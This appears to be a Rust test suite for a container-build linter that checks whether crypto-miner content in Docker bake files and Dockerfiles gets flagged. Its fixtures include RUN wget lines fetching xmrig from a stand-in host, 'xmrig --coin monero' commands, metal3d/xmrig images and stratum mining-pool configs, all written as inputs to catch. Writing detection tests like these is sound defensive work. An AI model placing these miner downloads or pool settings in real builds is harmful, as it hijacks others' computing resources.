//! Bake files: the builds of their targets.

use super::project::{CLEAN, Project};

/// Places and rules of the findings that stop.
fn stops(project: &Project, args: &[&str]) -> Vec<String> {
    let run = project.run(&[&["lint", "--quiet", "--format", "short"], args].concat());
    let stops = run.out.lines().filter(|line| line.contains(" STOP["));
    stops.map(|line| line.split(']').next().unwrap_or_default().replace(" STOP[", " ")).collect()
}

#[test]
fn dockerfiles_in_bake_files_are_judged_where_they_stand() {
    let heredoc = "target \"web\" {\n  dockerfile-inline = <<EOT\nFROM alpine\nRUN wget https://dl.example.invalid/xmrig\nEOT\n}\n";
    let indented = "target \"web\" {\n  dockerfile-inline = <<-EOT\n    FROM alpine\n    RUN set -e; \\\n        wget https://dl.example.invalid/xmrig\n    EOT\n}\n";
    let quoted = "target \"web\" {\n  dockerfile-inline = \"FROM alpine\\nRUN echo $${X} && xmrig --coin monero\"\n}\n";
    let json = "{\"target\": {\"web\": {\"dockerfile-inline\": \"FROM metal3d/xmr\\u0069g\"}}}";
    for (name, text, at) in [
        ("docker-bake.hcl", heredoc, "4:37: miner-source"),
        ("indented.hcl", indented, "5:41: miner-source"),
        ("quoted.hcl", quoted, "2:55: miner-command"),
        ("docker-bake.json", json, "1:48: denied-image"),
    ] {
        let project = Project::with(&[(name, text), ("Dockerfile", CLEAN)]);
        let found = stops(&project, &[name]);
        assert!(found.contains(&format!("{name}:{at}")), "{name}: {found:?}");
        assert_eq!(stops(&project, &["."]), found, "a search finds it");
    }
}

#[test]
fn targets_are_built_with_what_they_inherit() {
    let bake = "variable \"NAME\" {\n  default = \"xmrig\"\n}\ntarget \"base\" {\n  context = \"app\"\n  target = \"last\"\n}\ntarget \"web\" {\n  inherits = [\"base\"]\n  args = { PROGRAM = NAME }\n  contexts = { tools = \"docker-image://metal3d/xmrig\" }\n}\n";
    let project = Project::with(&[
        ("docker-bake.hcl", bake),
        (
            "app/Dockerfile",
            "FROM alpine AS last\nARG PROGRAM\nRUN wget https://dl.example.invalid/$PROGRAM\nFROM metal3d/xmrig\n",
        ),
        ("other.hcl", "job \"web\" {\n  image = \"metal3d/xmrig\"\n}\n"),
    ]);
    let found = stops(&project, &["docker-bake.hcl"]);
    for at in ["app/Dockerfile:3:37: miner-source", "docker-bake.hcl:11:40: denied-image"] {
        assert!(found.iter().any(|found| found == at), "{at} in {found:?}");
    }
    assert!(!found.iter().any(|it| it.starts_with("app/Dockerfile:4")), "{found:?}");
    let files = project.run(&["files"]).out;
    assert_eq!(files.lines().collect::<Vec<_>>(), ["app/Dockerfile", "docker-bake.hcl"]);
}

#[test]
fn what_bake_refuses_is_an_error() {
    let project = Project::with(&[("docker-bake.hcl", "target \"web\" {\n  args = {\n")]);
    let run = project.run(&["lint", "docker-bake.hcl"]);
    assert!(run.code == 1 && run.out.contains("docker buildx bake refuses this"), "{run:?}");
}

#[test]
fn builds_of_one_context_look_at_its_files_once_and_overlook_none() {
    let dockerfile = "FROM alpine AS a\nCOPY . /src\nRUN make -C /src\nFROM alpine AS b\nCOPY . /src\nRUN sh /src/later\nFROM alpine AS c\nCOPY other /other\nRUN pip install -r /other/odd.lst\n";
    let bake = "target \"a\" { target = \"a\" }\ntarget \"b\" { target = \"b\" }\ntarget \"c\" {\n  target = \"c\"\n}\n";
    let config = r#"{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333","user":"web"}],"donate-level":1}"#;
    let project = Project::with(&[
        ("docker-bake.hcl", bake),
        ("Dockerfile", dockerfile),
        ("settings.json", config),
        ("later", "/x -o stratum+tcp://pool.example.invalid:4444\n"),
        ("other/odd.lst", "xmrig-python\nhttps://dl.example.invalid/xmrig.tar.gz\n"),
    ]);
    let run = project.run(&["lint", "--quiet", "--format", "short", "docker-bake.hcl"]);
    let of = |file: &str| run.out.lines().filter(|line| line.contains(file)).count();
    assert_eq!(of("settings.json"), 1, "{}", run.out);
    assert!(of("later") == 1 && of("other/odd.lst") >= 1, "{}", run.out);
}

#[test]
fn a_context_that_is_fetched_is_judged_by_its_address() {
    for said in [
        "context = \"https://github.com/xmrig/xmrig.git\"",
        "context = \"${HOST}/xmrig/xmrig.git#main\"",
        "contexts = { m = \"https://github.com/xmrig/xmrig.git\" }",
    ] {
        let text = format!(
            "variable \"HOST\" {{ default = \"https://github.com\" }}\ntarget \"m\" {{\n  {said}\n}}\n"
        );
        let found = stops(&Project::with(&[("docker-bake.hcl", &text)]), &["docker-bake.hcl"]);
        assert!(found.iter().any(|it| it.ends_with("miner-source")), "{said}: {found:?}");
    }
    let honest = "target \"m\" {\n  context = \"https://github.com/example/web.git\"\n}\n";
    let project = Project::with(&[("docker-bake.hcl", honest)]);
    assert_eq!(stops(&project, &["docker-bake.hcl"]), [""; 0]);
}
